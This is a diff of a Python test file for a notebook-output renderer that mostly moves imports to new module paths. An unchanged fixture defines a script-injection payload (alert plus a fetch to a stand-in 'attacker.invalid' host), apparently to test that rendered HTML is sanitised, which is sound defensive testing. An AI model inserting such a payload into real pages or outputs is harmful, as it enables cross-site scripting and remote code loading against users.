@@ -25,20 +25,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 from PIL import Image, ImageCms, PngImagePlugin
 
-from kernel_agent.notebook.compose import notebook_of
+from kernel_agent.notebook.build import notebook_of
 from kernel_agent.notebook.outputs import displayable, full_text, notebook_outputs
 from kernel_agent.notebook.tables import MAX_CELLS, rendered
-from kernel_agent.records import (
-    Answer,
-    CellError,
-    CellResult,
-    Code,
-    ExitStatus,
-    Observation,
-    RunStart,
-    RunStop,
-    Step,
-)
+from kernel_agent.records.action import Code
+from kernel_agent.records.cell import Answer, CellError, CellResult, Observation
+from kernel_agent.records.endings import ExitStatus
+from kernel_agent.records.trace import RunStart, RunStop, Step
 
 HOST = "attacker.invalid"
 ACT = f"alert(1);fetch('http://{HOST}/js')"
@@ -231,8 +224,8 @@ def test_data_that_does_not_fit_together_is_no_table(change: dict[str, Any]) -> 
 def test_a_table_from_data_reads_as_pandas_wrote_it() -> None:
     import pandas as pd
 
-    from kernel_agent.inside.display import describe_table
-    from kernel_agent.text import html_text
+    from kernel_agent.inkernel.display import describe_table
+    from kernel_agent.safe.text import html_text
 
     plain = pd.DataFrame(
         {"n": [1.5, None, 3], "text": ["x", "<b>&", "z"],
